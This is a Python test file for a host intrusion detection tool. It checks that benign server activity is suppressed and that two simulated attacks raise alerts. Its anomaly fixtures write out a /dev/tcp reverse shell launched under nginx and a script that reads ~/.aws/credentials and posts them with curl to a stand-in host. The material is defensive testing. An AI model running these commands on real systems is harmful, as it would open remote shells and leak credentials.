"""The look-alikes of the issue's "night on a production server", through every detector.

Each benign look-alike must come out silent (returned suppressed by a static allowlist,
with a reason, for the audit trail) while the two real anomalies — a reverse shell and a
credential read followed by an outbound connection — are alerted.
"""

from __future__ import annotations

from detector_factories import (O_CREAT, O_TRUNC, O_WRONLY, connect, dup2, execve, init,
                                login_shell, open_file, proc, sec, sh_c, syscall)

from vigil.detectors.registry import build_detectors
from vigil.events.model import Event

AGENT_PID = 4242


def _benign() -> list[Event]:
    ev: list[Event] = []
    agent = proc("/usr/bin/python3", "/usr/local/bin/vigil", "run", pid=AGENT_PID, parent=init())
    # the agent reads PAM config (auth-log context) and sends alerts out
    ev += [open_file(agent, f"/etc/pam.d/{n}", ts=sec(i)) for i, n in
           enumerate(["sshd", "sudo", "common-auth", "login"])]
    ev.append(connect(agent, "149.154.167.220", 443, ts=sec(5)))
    # a root deploy stops and starts vigil; systemd delivers the stop
    root = login_shell(pid=900, uid=0, user="root")
    ev.append(execve(proc("/usr/bin/systemctl", "stop", "vigil", pid=901, parent=root),
                     ts=sec(10)))
    ev.append(syscall(init(), "kill", ts=sec(10.1), pid=AGENT_PID, sig=15))
    ev.append(execve(proc("/usr/bin/systemctl", "start", "vigil", pid=902, parent=root),
                     ts=sec(11)))
    # certbot renews: reads the old key, talks to the ACME server, writes the new one
    certbot = proc("/usr/bin/python3", "/usr/bin/certbot", "renew", pid=910, parent=init(),
                   name="certbot")
    ev.append(open_file(certbot, "/etc/letsencrypt/live/www/privkey.pem", ts=sec(20)))
    ev.append(connect(certbot, "172.65.32.248", 443, ts=sec(21)))
    ev.append(open_file(certbot, "/etc/letsencrypt/archive/www/privkey4.pem",
                        O_WRONLY | O_CREAT | O_TRUNC, ts=sec(22)))
    ev.append(syscall(certbot, "symlinkat", ts=sec(22), target="../../archive/www/privkey4.pem",
                      linkpath="/etc/letsencrypt/live/www/privkey.pem"))
    # a C build that reads a key fixture and fetches a dependency
    dev = login_shell(pid=920, uid=1000, user="dev")
    make = proc("/usr/bin/make", pid=921, uid=1000, parent=dev)
    recipe = sh_c("cc -I/usr/include -L/usr/lib/gcc/ main.c; curl -sO https://deps.example/x",
                  parent=make, pid=922)
    cc = proc("/usr/bin/cc", "-I/usr/include", "-L/usr/lib/gcc/", "main.c", pid=923,
              uid=1000, parent=recipe)
    ev += [execve(recipe, ts=sec(30)), execve(cc, ts=sec(30)),
           open_file(cc, "/home/dev/src/tests/tls/server.key", ts=sec(30.5)),
           connect(proc("/usr/bin/curl", pid=924, uid=1000, parent=recipe), "198.51.100.20",
                   443, ts=sec(31))]
    # an npm build under node
    npm = proc("/usr/bin/node", "/usr/bin/npm", "run", "build", pid=930, uid=1000, parent=dev)
    ev.append(execve(sh_c("react-scripts build", parent=npm, pid=931), ts=sec(40)))
    ev.append(execve(sh_c("tsc -p . && vite build", parent=npm, pid=932), ts=sec(41)))
    # cscli asks a public resolver
    cscli = proc("/usr/bin/cscli", "hub", "update", pid=940, parent=root)
    ev.append(connect(cscli, "1.1.1.1", 53, ts=sec(50), proto="udp"))
    return ev


def _anomalies() -> list[Event]:
    nginx = proc("/usr/sbin/nginx", pid=100, uid=33, user="www-data", parent=init())
    rev = sh_c("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", parent=nginx, pid=1001)
    script = proc("/usr/bin/bash", "/tmp/.s.sh", pid=1100, uid=1000, user="dev",
                  parent=login_shell(pid=1099, uid=1000, user="dev"))
    cat = proc("/usr/bin/cat", "/home/dev/.aws/credentials", pid=1101, uid=1000, parent=script)
    curl = proc("/usr/bin/curl", "-d", "@-", "http://203.0.113.77/c", pid=1102, uid=1000,
                parent=script)
    return [execve(rev, ts=sec(60)), dup2(rev, 1, "203.0.113.66", ts=sec(60.1)),
            dup2(rev, 0, "203.0.113.66", ts=sec(60.1)),
            open_file(cat, "/home/dev/.aws/credentials", ts=sec(70)),
            connect(curl, "203.0.113.77", 80, ts=sec(71))]


def _run(events: list[Event]):
    detectors = build_detectors({"dns_direct": {"system_resolvers": ["127.0.0.53"]}},
                                own_pid=AGENT_PID, own_uid=0)
    out = []
    for e in events:
        for d in detectors:
            if e.type in d.event_types:
                out.extend(d.on_event(e))
    return out


def test_benign_lookalikes_are_all_audited_with_reasons_and_none_alerts() -> None:
    dets = _run(_benign())
    assert dets, "the look-alikes must reach the audit trail"
    assert [d.output for d in dets if d.suppressed is None] == []
    assert all(d.suppressed.layer == "static" and d.suppressed.reason for d in dets)
    names = {d.name for d in dets}
    # npm's shells are not web requests (npm accepted no connection): not even audited
    assert {"data_exfil", "service_tamper", "sensitive_write", "dns_direct"} <= names
    assert "webshell" not in names


def test_the_two_anomalies_alert() -> None:
    dets = [d for d in _run(_benign() + _anomalies()) if d.suppressed is None]
    assert {d.rule_id for d in dets} == {"webshell.shell", "reverse_shell.dev_tcp",
                                         "data_exfil.read_then_connect"}
    assert {d.entity.ip for d in dets if d.entity.ip} == {"203.0.113.66", "203.0.113.77"}


def test_detectors_ignore_event_types_they_do_not_declare() -> None:
    """The pipeline may hand every event to every detector: the same events under a type
    a detector did not ask for must yield nothing (a `chdir` into /var/log/audit is not a
    deletion, an `openat` by a /dev/tcp shell is not a second reverse shell)."""
    corpus = _benign() + _anomalies()
    foreign = ["chdir", "mkdir", "rmdir", "procexit", "clone", "openat", "connect", "execve",
               "unlinkat", "dup2", "kill"]
    for det in build_detectors({"dns_direct": {"system_resolvers": []}}, AGENT_PID, 0):
        for etype in foreign:
            if etype in det.event_types:
                continue
            for e in corpus:
                moved = Event(type=etype, ts=e.ts, res=e.res, args=e.args, proc=e.proc,
                              fd=e.fd, source=e.source)
                assert det.on_event(moved) == [], (det.name, etype)
